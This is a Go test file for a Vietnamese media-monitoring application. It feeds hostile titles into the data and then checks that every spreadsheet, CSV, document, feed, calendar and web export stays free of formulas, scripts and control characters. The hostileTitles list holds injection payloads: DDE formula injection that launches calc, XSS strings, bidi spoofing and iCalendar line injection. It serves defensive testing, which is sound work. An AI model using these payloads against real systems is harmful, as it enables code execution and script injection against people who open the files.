package main

import (
	"archive/zip"
	"bytes"
	"cmp"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"maps"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"golang.org/x/net/html"

	"loa/crawler"
	"loa/media"
	"loa/report"
	"loa/viet"
	"loa/web/access"
)

// marker stands in every hostile title, so that it is seen where they come through.
const marker = "xauxa"

// hostileTitles are what a newspaper's or an agency's feed may call its pieces to harm who opens a table, a page or a letter.
func hostileTitles() []string {
	const about = " cải cách hành chính, giải quyết thủ tục hành chính tại bộ phận một cửa " + marker
	return []string{
		`=HYPERLINK("http://xau.example/?"&A1;"mở")` + about, "+cmd|' /C calc'!A0" + about, "-2+3" + about, "@SUM(1+1)*cmd|' /C calc'!A0" + about, "\t=1+1" + about, "\r\n=1+1" + about, "＝1＋1" + about,
		"<script>alert('loa')</script>" + about, `"><img src=x onerror=alert(1)>` + about, "]]></title></w:t><script>alert(1)</script>" + about, "{{.Plan}} ${7*7} %s%n" + about,
		"\u202e=gpj.exe" + about, "\u2066\u200f=1+1" + about, "\x00=1+1\x01\x1b[31m\x7f" + about, "\ufeff=1+1" + about, "\xff=1+1\ufffe\uffff" + about,
		"a\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO" + about, "=1" + about + strings.Repeat(" dài", 8_000),
	}
}

// enterHostile puts them into the newspaper's feed and the site of an agency, and into what people write.
func enterHostile(t *testing.T, e *engine, unit string) {
	t.Helper()
	ctx := t.Context()
	for _, agency := range []string{"mau/bao", unit} {
		i := slices.IndexFunc(e.plan.Sources, func(s media.Source) bool {
			return s.Agency == agency && (s.Kind == media.KindFeed || s.Kind == media.KindList)
		})
		if i < 0 {
			t.Fatalf("%s has neither feed nor list", agency)
		}
		src := e.plan.Sources[i]
		u, err := url.Parse(src.URL)
		if err != nil {
			t.Fatal(err)
		}
		leases, err := e.store.ClaimFor(ctx, e.node, []string{u.Host}, 1, time.Minute)
		if err != nil || len(leases) != 1 {
			t.Fatalf("%d leases of %s: %v", len(leases), u.Host, err)
		}
		visit := crawler.Visit{ID: "20230306-hostile-" + src.ID, Source: src.ID, At: seedEnd, Outcome: media.OK, NextDue: time.Now().Add(time.Hour)}
		for n, title := range hostileTitles() {
			at := seedEnd.Add(-time.Duration(n) * 20 * time.Hour)
			it := media.Item{Key: fmt.Sprintf("%s://%s/xau/%03d", u.Scheme, u.Host, n), Source: src.ID, Agency: src.Agency, Title: title, Lead: title,
				Claimed: media.Date{At: at, Precision: media.ToMinute, Text: at.Format("02/01/2006 15:04"), Found: "list"}, Seen: seedEnd, Verified: seedEnd}
			it.ID, it.URL = media.Hash(e.plan.Province, it.Key), it.Key
			text := media.Revision{Item: it.ID, Hash: crawler.TextHash(it.Title, it.Lead, ""), Title: it.Title, Lead: it.Lead, From: "entry", Seen: seedEnd}
			text.ID = media.RevisionID(text.Item, text.Hash, text.Seen)
			visit.Seen = append(visit.Seen, crawler.Seen{Item: it, Entry: &text})
		}
		if _, err := e.store.PutVisits(ctx, leases[0], []crawler.Visit{visit}); err != nil {
			t.Fatal(err)
		}
		if err := e.store.Release(ctx, leases[0]); err != nil {
			t.Fatal(err)
		}
	}
	for n, title := range hostileTitles()[:len(hostileTitles())-1] {
		paper := fmt.Sprintf("%s%d", title, n) // some differ by marks alone, and one paper counts once
		if _, err := e.addHandins(ctx, []media.Handin{{Kind: media.HandProof, Plan: e.plan.ID, Quota: "A-2.3", Owner: unit, From: seedEnd.AddDate(0, 0, -5), Title: title, Document: paper, Amounts: map[string]int{"events": 1}, Grade: media.GradeB}}, title, false); err != nil {
			t.Fatal(err)
		}
	}
	for _, title := range hostileTitles()[:4] {
		if err := e.store.PutMap(ctx, media.TableMap{Sender: title, Form: media.FormAirings, Columns: map[string]string{"date": "1"}, At: seededNow}, officer()); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := e.judgeAndEvaluate(ctx); err != nil {
		t.Fatal(err)
	}
}

// writers are the files of the program that make tables, documents, feeds and archives, and the door of it each is seen
// through here. A file that makes one and is not named fails.
var writers = map[string]string{
	"web/sheet.go":              "GET /tin-bai?dang=xlsx",
	"web/stream.go":             "GET /lich-su?dang=xlsx",
	"web/api/csv.go":            "GET /api/v1/items?dang=csv",
	"web/api/feed.go":           "GET /tin-ghi-nhan/so-tu-phap.atom",
	"web/collect.go":            "POST /bieu-thu-thap/tai",
	"web/radio.go":              "", // three fields of a form, read again at once
	"report/collect/write.go":   "POST /phieu/tai",
	"report/agenda/sheet.go":    "loa calendar sheet",
	"report/agenda/ical.go":     "GET /lich/bao.ics",
	"report/paper/docx.go":      "loa letters orient docx",
	"report/issue.go":           "", // a page, looked at as the others are
	"report/pack/list.go":       "", // of a sealed pack, whose own tests put such titles into it
	"report/pack/pack.go":       "", // likewise
	"report/document.go":        "GET /bao-cao/2023-02/docx",
	"report/tabular.go":         "GET /bao-cao/2023-02/xlsx",
	"report/letters/letters.go": "loa letters orient docx",
	"report/letters/remind.go":  "GET /thu-nhac/2023-02/giao-ban",
	"cmd/loa/collect.go":        "loa collect export",
	"cmd/loa/backup.go":         "", // the database itself
}

var makesFile = regexp.MustCompile(`excelize\.NewFile\(|csv\.NewWriter\(|zip\.NewWriter\(|xml\.NewEncoder\(|ics\.NewCalendar\(|paper\.Document\{`)

// TestWritersAreSeen: every file that makes a table, document, feed or archive is among writers.
func TestWritersAreSeen(t *testing.T) {
	left := maps.Clone(writers)
	for _, room := range []string{"web", "report", "cmd", "notify", "metrics", "plans", "media", "monitor", "schedule"} {
		err := filepath.WalkDir("../../"+room, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
				return err
			}
			text, err := os.ReadFile(path)
			if name := filepath.ToSlash(strings.TrimPrefix(path, "../../")); err == nil && makesFile.Match(text) {
				if _, ok := left[name]; !ok {
					t.Errorf("%s makes files: name the door of it in writers", name)
				}
				delete(left, name)
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	for name := range left {
		t.Errorf("%s makes no file", name)
	}
}

// TestExportsAreHarmless: what newspapers, agencies and people write goes through the store out of every door of the desk
// and of the commands that write files. No table has a formula, no page a script, and all are whole.
func TestExportsAreHarmless(t *testing.T) {
	e := seededEngine(t)
	unit := "mau/so-tu-phap"
	enterHostile(t, e, unit)
	of := examples(look(t, e))
	desk := serveDesk(t, e)
	x := &exported{T: t, desk: desk, engine: e, seen: map[string]int{}, sessions: map[access.Role]string{}}

	linked, asked := map[string]string{}, map[string]bool{}
	known := http.NewServeMux()
	routes := getRoutes(t)
	for _, rt := range routes {
		known.HandleFunc("GET "+rt.path, http.NotFound)
	}
	visit := func(rt pageRoute, path string) {
		asked[rt.path] = true
		role := rt.role()
		if who, rest, ok := strings.Cut(path, " "); ok { // as somebody else sees it
			role, path = access.Role(who), rest
		}
		kind, body := x.get(role, path)
		if kind != "text/html" {
			return
		}
		for _, m := range hrefs.FindAllStringSubmatch(body, -1) {
			req, err := http.NewRequest(http.MethodGet, desk.URL+html.UnescapeString(m[1]), nil)
			if err != nil {
				t.Errorf("%s: a link to %q: %v", path, m[1], err)
				continue
			}
			if _, pattern := known.Handler(req); pattern != "" && linked[strings.TrimPrefix(pattern, "GET ")] == "" {
				linked[strings.TrimPrefix(pattern, "GET ")] = html.UnescapeString(m[1])
			}
		}
		for _, form := range []string{"xlsx", "csv"} { // a list gives a table; what is none answers with its page
			sep := "?"
			if strings.Contains(path, "?") {
				sep = "&"
			}
			x.get(role, path+sep+"dang="+form)
		}
	}
	of["/tin-ghi-nhan/{file}"] = []string{"/tin-ghi-nhan/bao.atom", "/tin-ghi-nhan/bao.rss", "/tin-ghi-nhan/so-tu-phap.atom", "/tin-ghi-nhan/so-tu-phap.rss"}
	of["/lich/{file}"] = append(of["/lich/{file}"], "/lich/bao.ics")
	for round := range 3 {
		for _, rt := range routes {
			switch {
			case asked[rt.path] || slices.Contains([]string{"/api/v1/{path...}", "/metrics", "/sao-luu/ma-kiem-tra", "/tin-bai/{id}/ban-luu/{hash}", "/tin-bai/{id}/so-sanh"}, rt.path): // kept texts are given as they are, as text
			case round == 0 && of[rt.path] != nil:
				asked[rt.path] = true
				for _, path := range of[rt.path] {
					visit(rt, path)
				}
			case round == 0 && (!strings.Contains(rt.path, "{") || rt.path == "/{$}"):
				visit(rt, rt.path)
			case linked[rt.path] != "":
				visit(rt, linked[rt.path])
			case round == 2:
				t.Errorf("GET %s is a door that no address is known for: no page leads to it, and examples has none", rt.path)
			}
		}
	}
	x.post(access.Officer, "POST /bieu-thu-thap/tai", "/bieu-thu-thap/tai", url.Values{"ky": {"2023-02"}, "don-vi": {unit, "mau/so-xay-dung"}})
	x.post(access.Officer, "POST /phieu/tai", "/phieu/so-tu-phap/2023-02/tai", nil)
	for _, f := range report.Formats() {
		x.get(access.Officer, "/bao-cao/2023-02/"+f.Name)
	}
	x.get(access.Officer, "/thu-nhac/2023-02/giao-ban")
	x.api()
	x.commands(unit)

	for _, door := range writers {
		if n, there := x.seen[door]; door != "" && !there {
			t.Errorf("nothing came out of %s", door)
		} else if slices.Contains([]string{"GET /tin-bai?dang=xlsx", "GET /api/v1/items?dang=csv", "GET /tin-ghi-nhan/so-tu-phap.atom", "POST /phieu/tai", "loa collect export"}, door) && n == 0 {
			t.Errorf("no hostile title came out of %s: the test sees nothing there", door)
		}
	}
	through := []string{}
	for door, n := range x.seen {
		if n > 0 {
			through = append(through, door)
		}
	}
	t.Logf("%d answers, hostile titles in %d of them", len(x.seen), len(through))
	if n := len(x.seen); n < 100 || len(through) < 20 {
		t.Errorf("only %d answers looked at, hostile titles in %v", n, through)
	}
}

// exported asks every door and looks at what comes.
type exported struct {
	*testing.T
	desk     *httptest.Server
	engine   *engine
	seen     map[string]int // markers by door
	sessions map[access.Role]string
}

func (x *exported) do(role access.Role, door string, ask *http.Request) (kind, body string) {
	x.Helper()
	if x.sessions[role] == "" {
		x.sessions[role] = session(x.T, x.engine, logins[role])
	}
	ask.AddCookie(&http.Cookie{Name: "loa_phien", Value: x.sessions[role]})
	res, err := http.DefaultClient.Do(ask)
	if err != nil {
		x.Fatal(err)
	}
	defer res.Body.Close()
	raw, err := io.ReadAll(res.Body)
	if err != nil || res.StatusCode != http.StatusOK {
		x.Errorf("%s: answer %d (%v)\n%.400s", door, res.StatusCode, err, raw)
		return "", ""
	}
	kind, _, err = mime.ParseMediaType(res.Header.Get("Content-Type"))
	if err != nil {
		x.Errorf("%s: type %q: %v", door, res.Header.Get("Content-Type"), err)
	}
	x.judge(door, kind, raw)
	return kind, string(raw)
}

func (x *exported) get(role access.Role, path string) (kind, body string) {
	x.Helper()
	ask, err := http.NewRequest(http.MethodGet, x.desk.URL+path, nil)
	if err != nil {
		x.Fatal(err)
	}
	return x.do(role, "GET "+path, ask)
}

func (x *exported) post(role access.Role, door, path string, form url.Values) {
	x.Helper()
	ask, err := http.NewRequest(http.MethodPost, x.desk.URL+path, strings.NewReader(form.Encode()))
	if err != nil {
		x.Fatal(err)
	}
	ask.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if kind, _ := x.do(role, door, ask); kind == "text/html" {
		x.Errorf("%s answers with a page", door)
	}
}

// api asks for every address of the document that the program gives of itself, in every form it names.
func (x *exported) api() {
	x.Helper()
	_, text := x.get(access.Officer, "/api/v1/openapi.json")
	var doc struct {
		Paths map[string]map[string]struct {
			Responses map[string]struct{ Content map[string]any }
		}
	}
	if err := json.Unmarshal([]byte(text), &doc); err != nil || len(doc.Paths) < 10 {
		x.Fatalf("the document has %d paths: %v", len(doc.Paths), err)
	}
	var scopes []string
	for _, s := range access.Scopes() {
		scopes = append(scopes, s.Name)
	}
	secret, err := x.engine.addToken(x.Context(), x.engine.plan, access.Token{Name: "=1+1 " + marker, Scopes: scopes, Maker: "canbo", Expires: x.engine.machine().AddDate(0, 1, 0)})
	if err != nil {
		x.Fatal(err)
	}
	closings, err := x.engine.store.ClosingHeads(x.Context(), x.engine.plan.ID, seededNow)
	if err != nil || len(closings) == 0 {
		x.Fatalf("%d closings: %v", len(closings), err)
	}
	for path, methods := range doc.Paths {
		paths := []string{strings.NewReplacer("{closing}", closings[0].ID, "{file}", "bao.atom").Replace(path)}
		if _, tables := methods["get"].Responses["200"].Content["text/csv"]; tables {
			paths = append(paths, paths[0]+"?dang=csv")
		}
		if strings.Contains(path, "{file}") {
			paths = append(paths, strings.Replace(path, "{file}", "bao.rss", 1))
		}
		for _, p := range paths {
			if strings.Contains(p, "{") {
				x.Errorf("nothing is known to ask for %s with", path)
				continue
			}
			ask, err := http.NewRequest(http.MethodGet, x.desk.URL+p, nil)
			if err != nil {
				x.Fatal(err)
			}
			ask.Header.Set("Authorization", "Bearer "+secret)
			x.do(access.Officer, "GET "+p, ask)
		}
	}
}

// commands writes what only commands write.
func (x *exported) commands(unit string) {
	x.Helper()
	out := x.TempDir()
	plans := samplePlans(x.T)
	plan := filepath.Join(plans, "mau", "2023.yaml")
	raw, err := os.ReadFile(plan)
	if err == nil {
		err = os.WriteFile(plan, []byte(strings.Replace(string(raw), "  - id: B-A1\n", orientingQuota+"  - id: B-A1\n", 1)), 0o644)
	}
	if err != nil {
		x.Fatal(err)
	}
	d := desk{x.T, plans, x.engine.app.cli.Data}
	const at = "2023-03-06T08:00"
	draft := draftID.FindStringSubmatch(d.ok("suggest", "save", "--for", "bao", "--at", at))
	if draft == nil {
		x.Fatal("no draft")
	}
	d.ok("suggest", "share", draft[1], "--as", "bao", "--at", at)
	orient := []string{"letters", "orient", "--from", draft[1], "--at", at, "-o"}
	for _, c := range []struct {
		door, file, kind string
		args             []string
	}{
		{"loa letters orient docx", "l.docx", docxType, orient},
		{"loa letters orient html", "l.html", "text/html", orient},
		{"loa suggest brief", "b.html", "text/html", []string{"suggest", "brief", "--for", "bao", "--at", at, "-o"}},
		{"loa calendar sheet", "c.xlsx", xlsxType, []string{"calendar", "sheet", "--month", "2023-03", "--at", at, "-o"}},
		{"loa collect export", "t.zip", "application/zip", []string{"collect", "export", "--period", "2023-02", "--unit", unit, "--unit", "mau/so-xay-dung", "--at", at, "-o"}},
	} {
		path := filepath.Join(out, c.file)
		d.ok(append(slices.Clone(c.args), path)...)
		raw, err := os.ReadFile(path)
		if err != nil {
			x.Fatal(err)
		}
		x.judge(c.door, c.kind, raw)
	}
}

const (
	xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	docxType = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
)

// judge looks at one answer by its kind. Of a kind that it does not know it says so.
func (x *exported) judge(door, kind string, raw []byte) {
	x.Helper()
	var err error
	text := string(raw)
	switch kind {
	case "text/csv":
		text, err = harmlessCSV(raw)
	case xlsxType:
		text, err = harmlessXLSX(raw)
	case docxType:
		text, err = harmlessParts(raw)
	case "application/zip":
		text, err = x.archive(door, raw)
	case "text/html":
		err = harmlessHTML(raw)
	case "application/json", "application/vnd.oai.openapi+json":
		if !json.Valid(raw) {
			err = errors.New("is no JSON")
		}
	case "application/atom+xml", "application/rss+xml", "image/svg+xml":
		err = wellFormedXML(raw)
	case "text/calendar":
		err = harmlessICS(text)
	case "text/plain", "text/css", "text/javascript":
	default:
		if strings.HasPrefix(kind, "image/") || kind == "application/pdf" || kind == "application/octet-stream" { // as it was handed in
			return
		}
		err = fmt.Errorf("comes as %q, of which it is not known what is harmless", kind)
	}
	if err == nil && kind != "text/javascript" {
		err = harmlessText(text)
	}
	if err != nil {
		x.Errorf("%s: %v", door, err)
	}
	x.seen[door] += strings.Count(text, marker)
}

func (x *exported) archive(door string, raw []byte) (string, error) {
	z, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		return "", err
	}
	var all strings.Builder
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			return "", err
		}
		body, err := io.ReadAll(r)
		if err != nil || !strings.HasSuffix(f.Name, ".xlsx") {
			return "", fmt.Errorf("%s: %w", f.Name, cmp.Or(err, errors.New("is no workbook")))
		}
		text, err := harmlessXLSX(body)
		if err != nil {
			return "", fmt.Errorf("%s: %w", f.Name, err)
		}
		all.WriteString(text)
	}
	return all.String(), nil
}

// harmlessText: nothing changes how the rest is shown, and all of it is whole.
func harmlessText(s string) error {
	for i, r := range s {
		if r < ' ' && r != '\t' && r != '\n' && r != '\r' || r == 0x7f || r == 0x61c || r == 0x200e || r == 0x200f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069 || r == 0xfffe || r == 0xffff {
			return fmt.Errorf("has the character %U: %.80q", r, s[max(0, i-20):])
		}
	}
	if !utf8.ValidString(s) {
		return errors.New("is not UTF-8")
	}
	return nil
}

func harmlessCell(s string) error {
	if _, err := strconv.ParseFloat(s, 64); err == nil {
		return nil
	}
	if viet.Cell(s) != s || utf8.RuneCountInString(s) > 32_767 {
		return fmt.Errorf("the cell %.80q", s)
	}
	return harmlessText(s)
}

func harmlessCSV(raw []byte) (string, error) {
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		return "", err
	}
	var all strings.Builder
	for _, row := range rows {
		for _, cell := range row {
			if err := harmlessCell(cell); err != nil {
				return "", err
			}
			all.WriteString(cell + "\n")
		}
	}
	return all.String(), nil
}

func harmlessXLSX(raw []byte) (string, error) {
	if _, err := harmlessParts(raw); err != nil {
		return "", err
	}
	f, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		return "", err
	}
	defer f.Close()
	var all strings.Builder
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			return "", err
		}
		for i, row := range rows {
			for j, cell := range row {
				name, err := excelize.CoordinatesToCellName(j+1, i+1)
				if err != nil {
					return "", err
				}
				formula, err := f.GetCellFormula(sheet, name)
				if err != nil || formula != "" {
					return "", fmt.Errorf("%s %s is the formula %q: %w", sheet, name, formula, err)
				}
				if err := harmlessCell(cell); err != nil {
					return "", fmt.Errorf("%s %s: %w", sheet, name, err)
				}
				all.WriteString(cell + "\n")
			}
		}
	}
	return all.String(), nil
}

// references are the cells of its own workbook that a chart draws.
var references = regexp.MustCompile(`<f>(?:'|&#39;|&apos;)[^'<]*(?:'|&#39;|&apos;)!\$[A-Z]+\$[0-9]+(:\$[A-Z]+\$[0-9]+)?</f>`)

var external = regexp.MustCompile(`<Relationship [^>]*TargetMode="External"[^>]*>`)

// leadsOut reports whether a part leads out of its file by anything but a link that a person follows to a web address.
func leadsOut(body []byte) bool {
	for _, r := range external.FindAll(body, -1) {
		if !bytes.Contains(r, []byte("/relationships/hyperlink\"")) || !bytes.Contains(r, []byte(`Target="http://`)) && !bytes.Contains(r, []byte(`Target="https://`)) {
			return true
		}
	}
	return false
}

// harmlessParts: every part of an office document is well-formed, and none leads out, calls fields or holds macros.
func harmlessParts(raw []byte) (string, error) {
	z, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		return "", err
	}
	var all strings.Builder
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			return "", err
		}
		body, err := io.ReadAll(r)
		if err != nil {
			return "", fmt.Errorf("%s: %w", f.Name, err)
		}
		if strings.Contains(f.Name, "vba") || leadsOut(body) || bytes.Contains(references.ReplaceAll(body, nil), []byte("<f>")) || bytes.Count(body, []byte("instrText")) != 2*bytes.Count(body, []byte("> PAGE </w:instrText>")) {
			return "", fmt.Errorf("%s does something", f.Name)
		}
		if err := wellFormedXML(body); err != nil {
			return "", fmt.Errorf("%s: %w", f.Name, err)
		}
		if f.Name == "word/document.xml" {
			all.Write(body)
		}
	}
	return all.String(), nil
}

func wellFormedXML(raw []byte) error {
	d := xml.NewDecoder(bytes.NewReader(raw))
	for {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}

// harmlessHTML: no script but the desk's own, nothing that is done on an event, no address that is a program.
func harmlessHTML(raw []byte) error {
	root, err := html.Parse(bytes.NewReader(raw))
	if err != nil {
		return err
	}
	for n := range root.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		src := ""
		for _, a := range n.Attr {
			if a.Key == "src" {
				src = a.Val
			}
			if to := strings.ToLower(strings.TrimSpace(a.Val)); strings.HasPrefix(a.Key, "on") || (a.Key == "href" || a.Key == "src" || a.Key == "action") && strings.HasPrefix(to, "javascript:") {
				return fmt.Errorf("<%s %s=%q>", n.Data, a.Key, a.Val)
			}
		}
		if n.Data == "script" && (!strings.HasPrefix(src, "/static/") || n.FirstChild != nil) {
			return fmt.Errorf("a script from %q", src)
		}
	}
	return nil
}

// harmlessICS: lines are folded, and whatever begins or ends was begun by the program.
func harmlessICS(s string) error {
	begun := 0
	for _, line := range strings.Split(strings.TrimSuffix(s, "\r\n"), "\r\n") {
		switch {
		case len(line) > 75 || strings.ContainsAny(line, "\r\n"):
			return fmt.Errorf("the line %.100q", line)
		case strings.HasPrefix(line, "BEGIN:"):
			begun++
		case strings.HasPrefix(line, "END:"):
			begun--
		case strings.HasPrefix(line, "ACTION:") && line != "ACTION:DISPLAY":
			return fmt.Errorf("the line %q", line)
		}
		if begun <= 0 && !strings.HasPrefix(line, "END:VCALENDAR") {
			return fmt.Errorf("outside of the calendar: %q", line)
		}
	}
	return nil
}
